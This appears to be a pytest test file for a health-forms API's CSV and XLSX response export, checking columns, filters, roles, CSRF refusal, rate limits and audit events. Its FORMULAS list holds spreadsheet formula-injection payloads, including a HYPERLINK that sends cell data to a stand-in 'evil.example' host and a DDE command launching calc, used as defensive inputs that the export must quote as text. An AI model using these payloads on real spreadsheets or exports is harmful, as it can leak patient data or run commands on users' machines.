"""GET /api/forms/{id}/responses/export: the list's responses as CSV or XLSX, holding what
the API reads, audited as one event, for editors and admins, under the pdf policy."""

from __future__ import annotations

import os
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI
from redis.asyncio import Redis
from sqlalchemy import update

from healthforms.audit.models import AuditEventRow
from healthforms.crypto.keys import KeyRing
from healthforms.db.engine import Database
from healthforms.exports import service as export_service
from healthforms.responses.models import ResponseRow
from healthforms.security.principal import Role
from tests.exports.helpers import (
    FIXED,
    SIGNED_AT,
    V1_FIELDS,
    V2_FIELDS,
    VERSIONED_HEADERS,
    VERSIONED_KINDS,
    create_versioned_form,
    detail_of,
    events,
    expected_cell,
    read_csv,
    read_xlsx,
    refuse_events,
    sheet_xml,
)
from tests.support.apps import running_app
from tests.support.identity import GENEROUS_AUTH_RATE, identity_settings
from tests.support.response_factory import (
    UNICODE_NAME,
    PublishedForm,
    create_form,
    create_organization,
    create_response,
    evidence,
    intake_answers,
    signature_data_url,
)
from tests.support.response_fixtures import AppWith, StaffFactory
from tests.support.staff import signed_in_client

FORMATS = ["csv", "xlsx"]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def export_url(form_id: str, file_format: str = "csv", **filters: str) -> str:
    query = "&".join(f"{k}={quote(v)}" for k, v in {"format": file_format, **filters}.items())
    return f"/api/forms/{form_id}/responses/export?{query}"


def table_of(reply: httpx.Response, file_format: str) -> list[list[str]]:
    assert reply.status_code == 200, reply.text
    return read_csv(reply) if file_format == "csv" else read_xlsx(reply.content)


async def versioned_clinic(db: Database, keys: KeyRing, organization_id: str) -> dict[str, Any]:
    """A form with two versions (a field renamed, one removed, one added) and three
    responses: two to version 1, one to version 2; returns the form id and the ids."""
    v1, v2 = await create_versioned_form(db, organization_id, [V1_FIELDS, V2_FIELDS])
    base = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
    signed = {"name": UNICODE_NAME, "signature": signature_data_url()}
    first = {
        **signed,
        "allergies": ["Latex", "Pollen"],
        "referral": "Dr. Müller, Praxis am Markt",
        "consent": True,
    }
    second = {"name": "Ada Lovelace", "allergies": [], "consent": False}  # unsigned
    third = {**signed, "allergies": ["Penicillin"], "consent": True, "pain": 7}
    ids = [
        await create_response(db, keys, v1, first, evidence(first), submitted_at=base),
        await create_response(db, keys, v1, second, submitted_at=base + timedelta(days=1, hours=3)),
        await create_response(
            db, keys, v2, third, evidence(third), submitted_at=base + timedelta(days=2)
        ),
    ]
    return {"form_id": v1.form_id, "ids": ids}


async def expected_row(http: httpx.AsyncClient, response_id: str) -> list[str]:
    """The export's row of a response, built from what GET /api/responses/{id} says."""
    read = (await http.get(f"/api/responses/{response_id}")).json()
    answers = read["answers"]
    cells = [
        read["id"],
        read["confirmation"],
        read["submittedAt"],
        str(read["formVersion"]),
        read["status"],
        "",
    ]
    for field_id, kind in VERSIONED_KINDS.items():
        cells.append(expected_cell(kind, answers.get(field_id), SIGNED_AT))
    return cells


@pytest.mark.parametrize("file_format", FORMATS)
async def test_the_export_holds_what_the_api_reads_across_two_versions(
    file_format: str, db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    made = await versioned_clinic(db, keys, clinic.organization_id)

    reply = await admin.get(export_url(made["form_id"], file_format))

    header, *rows = table_of(reply, file_format)
    assert header == FIXED + VERSIONED_HEADERS
    newest_first = list(reversed(made["ids"]))
    assert [row[0] for row in rows] == newest_first
    for row, response_id in zip(rows, newest_first, strict=True):
        assert row == await expected_row(admin, response_id)
    # Spot checks of the shapes the rule above produces.
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    first, second, third = (by_id[i] for i in made["ids"])
    assert first["Known allergies (allergies)"] == "Latex; Pollen"
    assert first["Patient signature (signature)"] == f"signed at {SIGNED_AT}"
    assert first["Pain today (0-10) (pain)"] == ""  # not on version 1
    assert second["Patient signature (signature)"] == ""  # left unsigned
    assert second["I consent to treatment (consent)"] == "No"
    assert third["Who referred you? (referral)"] == ""  # removed in version 2
    assert third["Pain today (0-10) (pain)"] == "7"
    assert third["Form version"] == "2"
    # The signature image never leaves, only the time it was signed.
    body = reply.content if file_format == "csv" else sheet_xml(reply.content).encode()
    assert b"data:image" not in body and b"iVBOR" not in body


async def test_the_csv_and_the_xlsx_hold_the_same_cells(
    db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    made = await versioned_clinic(db, keys, clinic.organization_id)
    as_csv = table_of(await admin.get(export_url(made["form_id"], "csv")), "csv")
    as_xlsx = table_of(await admin.get(export_url(made["form_id"], "xlsx")), "xlsx")
    assert as_csv == as_xlsx


async def test_the_xlsx_is_built_in_the_data_dir_and_a_killed_builds_leftovers_go(
    app: FastAPI, db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    """The decrypted rows of an XLSX being built sit in <data dir>/exports-tmp (on the
    database's encrypted storage, 0700), gone once the download ended; what a process
    killed mid-build left is swept at start-up once an hour old, never a live build."""
    data_dir: Path = app.state.hf.settings.data_dir
    made = await versioned_clinic(db, keys, clinic.organization_id)
    assert (await admin.get(export_url(made["form_id"], "xlsx"))).status_code == 200
    workspace = data_dir / export_service.EXPORT_WORKSPACE
    assert workspace.is_dir() and oct(workspace.stat().st_mode & 0o777) == "0o700"
    assert list(workspace.iterdir()) == []
    old, young = workspace / "healthforms-export-old", workspace / "healthforms-export-live"
    for folder in (old, young):
        folder.mkdir()
        (folder / "rows.tmp").write_bytes(b"decrypted rows")
    hour_ago = time.time() - export_service.STALE_AFTER_S - 5
    os.utime(old, (hour_ago, hour_ago))
    assert export_service.sweep_export_workspace(data_dir) == 1
    assert not old.exists() and young.exists()


@pytest.mark.parametrize("file_format", FORMATS)
async def test_the_file_is_an_attachment_never_cached_of_its_own_media_type(
    file_format: str, db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    title = 'Anamnèse "Erwachsene" 1/2'
    form = (await create_form(db, clinic.organization_id, title=title))[0]
    await create_response(db, keys, form, intake_answers())

    reply = await admin.get(export_url(form.form_id, file_format))

    assert reply.status_code == 200
    assert reply.headers["cache-control"] == "no-store"
    media = "text/csv; charset=utf-8" if file_format == "csv" else XLSX_TYPE
    assert reply.headers["content-type"] == media
    disposition = reply.headers["content-disposition"]
    today = datetime.now(UTC).date().isoformat()
    # Quotes and the slash become spaces; the exact UTF-8 name follows (RFC 6266).
    name = f"Anamnèse Erwachsene 1 2 responses {today}.{file_format}"
    assert disposition == (
        f'attachment; filename="Anamn_se Erwachsene 1 2 responses {today}.{file_format}"; '
        f"filename*=UTF-8''{quote(name, safe='')}"
    )


async def test_the_export_holds_exactly_what_the_list_shows_for_the_same_filters(
    db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    base = datetime(2026, 11, 1, 8, 0, tzinfo=UTC)
    ids = [
        await create_response(
            db, keys, clinic, intake_answers(), submitted_at=base + timedelta(days=day)
        )
        for day in range(6)
    ]
    for response_id in ids[1::2]:
        status = await admin.post(
            f"/api/responses/{response_id}/status", json={"status": "reviewed"}
        )
        assert status.status_code == 200
    cases: list[dict[str, str]] = [
        {},
        {"status": "reviewed"},
        {"status": "new"},
        {"from": "2026-11-02T08:00:00Z"},
        {"to": "2026-11-04T08:00:00+00:00"},
        {"status": "reviewed", "from": "2026-11-02T00:00:00Z", "to": "2026-11-05T09:00:00Z"},
        {"status": "filed"},
    ]
    for filters in cases:
        query = "&".join(f"{k}={quote(v)}" for k, v in filters.items())
        listed = await admin.get(f"/api/forms/{clinic.form_id}/responses?{query}")
        assert listed.status_code == 200
        expected = [r["id"] for r in listed.json()["responses"]]
        for file_format in FORMATS:
            _, *rows = table_of(
                await admin.get(export_url(clinic.form_id, file_format, **filters)), file_format
            )
            assert [row[0] for row in rows] == expected, (filters, file_format)
            statuses = {row[4] for row in rows}
            if "status" in filters and rows:
                assert statuses == {filters["status"]}


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("format=pdf", "format"),
        ("format=csv&status=archived", "status"),
        ("format=xlsx&from=yesterday", "from"),
        ("format=csv&to=2026-11-25T19:54:37", "to"),
    ],
)
async def test_bad_parameters_are_422_naming_them_as_the_list_does(
    query: str, field: str, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    reply = await admin.get(f"/api/forms/{clinic.form_id}/responses/export?{query}")
    assert reply.status_code == 422, reply.text
    assert reply.json()["code"] == "validation_error"
    assert field in reply.json()["fields"]
    if field != "format":
        listed = await admin.get(f"/api/forms/{clinic.form_id}/responses?{query}")
        assert listed.status_code == 422 and listed.json()["fields"] == reply.json()["fields"]


async def test_without_format_the_export_is_csv(
    db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    response_id = await create_response(db, keys, clinic, intake_answers())
    reply = await admin.get(f"/api/forms/{clinic.form_id}/responses/export")
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert [row[0] for row in read_csv(reply)[1:]] == [response_id]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("file_format", FORMATS)
async def test_a_cell_that_would_start_a_formula_is_quoted_as_text(
    file_format: str, db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    fields: list[dict[str, Any]] = [
        {"id": f"q{n}", "type": "text", "label": f"Question {n}"} for n in range(len(FORMULAS))
    ]
    fields.append({"id": "choice", "type": "checkbox", "label": "=Label", "options": ["=1+1"]})
    form = (await create_form(db, clinic.organization_id, fields=fields))[0]
    answers: dict[str, Any] = {f"q{n}": text for n, text in enumerate(FORMULAS)}
    answers["choice"] = ["=1+1", "fine"]
    await create_response(db, keys, form, answers)

    header, row = table_of(await admin.get(export_url(form.form_id, file_format)), file_format)

    cells = dict(zip(header, row, strict=True))
    for n, text in enumerate(FORMULAS):
        assert cells[f"Question {n} (q{n})"] == "'" + text
    assert header[-1] == "'=Label (choice)"
    assert cells["'=Label (choice)"] == "'=1+1; fine"
    if file_format == "xlsx":
        xml = sheet_xml((await admin.get(export_url(form.form_id, "xlsx"))).content)
        assert "<f>" not in xml and "<f " not in xml  # no cell is a formula


async def test_negative_numbers_stay_numbers(
    db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    """A number answer is a number cell, which no spreadsheet evaluates: only text that
    could start a formula is quoted."""
    fields: list[dict[str, Any]] = [{"id": "t", "type": "number", "label": "Temperature delta"}]
    form = (await create_form(db, clinic.organization_id, fields=fields))[0]
    await create_response(db, keys, form, {"t": -1.5})
    for file_format in FORMATS:
        _, row = table_of(await admin.get(export_url(form.form_id, file_format)), file_format)
        assert row[-1] == "-1.5"


@pytest.mark.parametrize("file_format", FORMATS)
async def test_a_response_that_will_not_decrypt_is_marked_not_a_500(
    file_format: str, db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    at = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
    good = await create_response(db, keys, clinic, intake_answers(), submitted_at=at)
    broken = await create_response(
        db, keys, clinic, intake_answers(), submitted_at=at + timedelta(hours=1)
    )
    async with db.sessions() as session, session.begin():
        await session.execute(
            update(ResponseRow).where(ResponseRow.id == broken).values(ciphertext=b"\x00" * 64)
        )

    header, *rows = table_of(await admin.get(export_url(clinic.form_id, file_format)), file_format)

    by_id = {row[0]: row for row in rows}
    assert set(by_id) == {good, broken}
    unreadable = header.index("Unreadable")
    assert by_id[broken][unreadable] == "yes"
    assert set(by_id[broken][unreadable + 1 :]) == {""}
    assert by_id[good][unreadable] == ""
    assert UNICODE_NAME in by_id[good]
    (event,) = await events(db, "responses.exported", clinic.form_id)
    assert detail_of(event)["responseIds"] == [broken, good]


async def test_more_rows_than_one_read_batch_arrive_whole_and_in_order(
    db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    count = export_service.READ_BATCH * 2 + 3
    base = datetime(2026, 10, 1, tzinfo=UTC)
    # Same second for some: the order falls back to the id, as the list's does.
    ids = [
        await create_response(
            db,
            keys,
            clinic,
            {"name": f"Patient {n}"},
            submitted_at=base + timedelta(minutes=n // 2),
        )
        for n in range(count)
    ]
    listed = (await admin.get(f"/api/forms/{clinic.form_id}/responses")).json()["responses"]
    rows = read_csv(await admin.get(export_url(clinic.form_id)))[1:]
    assert [row[0] for row in rows] == [r["id"] for r in listed]
    assert sorted(row[0] for row in rows) == sorted(ids)


async def test_more_than_the_export_limit_is_422_and_exports_nothing(
    db: Database,
    keys: KeyRing,
    clinic: PublishedForm,
    admin: httpx.AsyncClient,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for _ in range(3):
        await create_response(db, keys, clinic, intake_answers())
    monkeypatch.setattr(export_service, "MAX_EXPORT_ROWS", 2)

    reply = await admin.get(export_url(clinic.form_id))

    assert reply.status_code == 422
    assert reply.json()["code"] == "export_too_large"
    assert await events(db, "responses.exported", clinic.form_id) == []
    narrowed = await admin.get(export_url(clinic.form_id, status="reviewed"))
    assert narrowed.status_code == 200


@pytest.mark.parametrize("file_format", FORMATS)
async def test_one_event_names_the_form_the_count_and_exactly_the_ids_never_phi(
    file_format: str, app: FastAPI, db: Database, keys: KeyRing, clinic: PublishedForm
) -> None:
    answers = intake_answers()
    ids = [await create_response(db, keys, clinic, answers) for _ in range(3)]
    other_form = (await create_form(db, clinic.organization_id, title="Other"))[0]
    await create_response(db, keys, other_form, answers)
    async with signed_in_client(app, clinic.organization_id, Role.EDITOR) as (http, editor):
        reply = await http.get(
            export_url(clinic.form_id, file_format), headers={"X-Request-ID": "req-export-01"}
        )
        exported = [row[0] for row in table_of(reply, file_format)[1:]]

    (event,) = await events(db, "responses.exported", clinic.form_id)
    assert event.actor_id == editor.id
    assert event.organization_id == clinic.organization_id
    assert (event.resource_type, event.resource_id) == ("form", clinic.form_id)
    assert event.outcome == "success"
    assert event.client_request_id == "req-export-01"
    assert detail_of(event) == {"format": file_format, "count": 3, "responseIds": exported}
    assert sorted(exported) == sorted(ids)
    assert no_phi(event, answers)
    # One event for the export: none per response.
    for response_id in ids:
        assert await events(db, "response.viewed", response_id) == []


def no_phi(event: AuditEventRow, answers: dict[str, Any]) -> bool:
    stored = " ".join(str(getattr(event, c.key)) for c in AuditEventRow.__table__.columns)
    return all(str(answers[key]) not in stored for key in ("name", "email", "dob", "history"))


@pytest.mark.parametrize("role", [Role.ADMIN, Role.EDITOR])
async def test_editors_and_admins_may_export(
    role: Role, db: Database, keys: KeyRing, clinic: PublishedForm, staff: StaffFactory
) -> None:
    await create_response(db, keys, clinic, intake_answers())
    async with staff(clinic.organization_id, role) as http:
        for file_format in FORMATS:
            assert (await http.get(export_url(clinic.form_id, file_format))).status_code == 200


async def test_a_viewer_may_read_responses_but_not_export_them(
    db: Database, keys: KeyRing, clinic: PublishedForm, staff: StaffFactory
) -> None:
    await create_response(db, keys, clinic, intake_answers())
    async with staff(clinic.organization_id, Role.VIEWER) as viewer:
        assert (await viewer.get(f"/api/forms/{clinic.form_id}/responses")).status_code == 200
        for file_format in FORMATS:
            reply = await viewer.get(export_url(clinic.form_id, file_format))
            assert reply.status_code == 403
            assert reply.json()["code"] == "forbidden"
            assert UNICODE_NAME not in reply.text
    assert await events(db, "responses.exported", clinic.form_id) == []


async def test_signed_out_the_export_is_401(
    clinic: PublishedForm, client: httpx.AsyncClient
) -> None:
    reply = await client.get(export_url(clinic.form_id))
    assert reply.status_code == 401
    assert reply.json()["code"] == "unauthenticated"


async def test_another_organisations_form_is_404_as_if_it_did_not_exist(
    db: Database, keys: KeyRing, clinic: PublishedForm, staff: StaffFactory
) -> None:
    await create_response(db, keys, clinic, intake_answers())
    elsewhere = await create_organization(db)
    async with staff(elsewhere, Role.ADMIN) as stranger:
        for form_id in (clinic.form_id, "frm_does-not-exist"):
            reply = await stranger.get(export_url(form_id))
            assert reply.status_code == 404
            assert reply.json() == {"error": "Not found.", "code": "not_found"}
    assert await events(db, "responses.exported", clinic.form_id) == []


async def test_an_export_started_by_another_site_is_refused(
    db: Database, keys: KeyRing, clinic: PublishedForm, admin: httpx.AsyncClient
) -> None:
    """SameSite=Lax cookies ride along a link another site shows: Fetch Metadata tells."""
    await create_response(db, keys, clinic, intake_answers())

    refused = await admin.get(export_url(clinic.form_id), headers={"Sec-Fetch-Site": "cross-site"})
    from_our_page = await admin.get(
        export_url(clinic.form_id), headers={"Sec-Fetch-Site": "same-origin"}
    )

    assert refused.status_code == 403
    assert refused.json()["code"] == "csrf_invalid"
    assert UNICODE_NAME not in refused.text
    assert from_our_page.status_code == 200
    (rejection,) = await events(db, "csrf.rejected", clinic.form_id)
    assert (rejection.resource_type, rejection.resource_id) == ("form", clinic.form_id)
    assert len(await events(db, "responses.exported", clinic.form_id)) == 1


async def test_exports_spend_the_pdf_policy_besides_the_api_one(app_with: AppWith) -> None:
    async with app_with(rate_limit_pdf="2/min+0") as app:
        db: Database = app.state.hf.db
        organization_id = await create_organization(db)
        form = (await create_form(db, organization_id))[0]
        response_id = await create_response(db, app.state.hf.keys, form, intake_answers())
        async with signed_in_client(app, organization_id) as (http, _):
            first = await http.get(export_url(form.form_id, "csv"))
            second = await http.get(export_url(form.form_id, "xlsx"))
            refused = await http.get(export_url(form.form_id, "csv"))
            # The same bucket as generate-pdf; other routes are not held back.
            pdf = await http.post(f"/api/responses/{response_id}/generate-pdf")
            assert (await http.get(f"/api/responses/{response_id}")).status_code == 200
        exported = await events(db, "responses.exported", form.form_id)
    assert first.status_code == second.status_code == 200
    assert "ratelimit-policy" in {k.lower() for k in first.headers}
    assert refused.status_code == 429
    assert refused.json()["code"] == "rate_limited"
    assert int(refused.headers["retry-after"]) >= 1
    assert pdf.status_code == 429
    assert len(exported) == 2


async def test_an_export_whose_audit_event_fails_sends_nothing(
    fresh_database_url: str,
    redis_url: str,
    redis_prefix: str,
    tmp_path: Path,
    redis_client: Redis,
) -> None:
    settings = identity_settings(
        database_url=fresh_database_url,
        redis_url=redis_url,
        redis_prefix=redis_prefix,
        data_dir=tmp_path / "data",
        rate_limit_auth=GENEROUS_AUTH_RATE,
    )
    async with running_app(settings) as app:
        db: Database = app.state.hf.db
        organization_id = await create_organization(db)
        form = (await create_form(db, organization_id))[0]
        await create_response(db, app.state.hf.keys, form, intake_answers())
        await refuse_events(db, "responses.exported")
        async with signed_in_client(app, organization_id) as (http, _):
            replies = [await http.get(export_url(form.form_id, f)) for f in FORMATS]
    for reply in replies:
        assert reply.status_code >= 500
        assert reply.headers["content-type"].startswith("application/json")
        assert UNICODE_NAME not in reply.text and "Response ID" not in reply.text
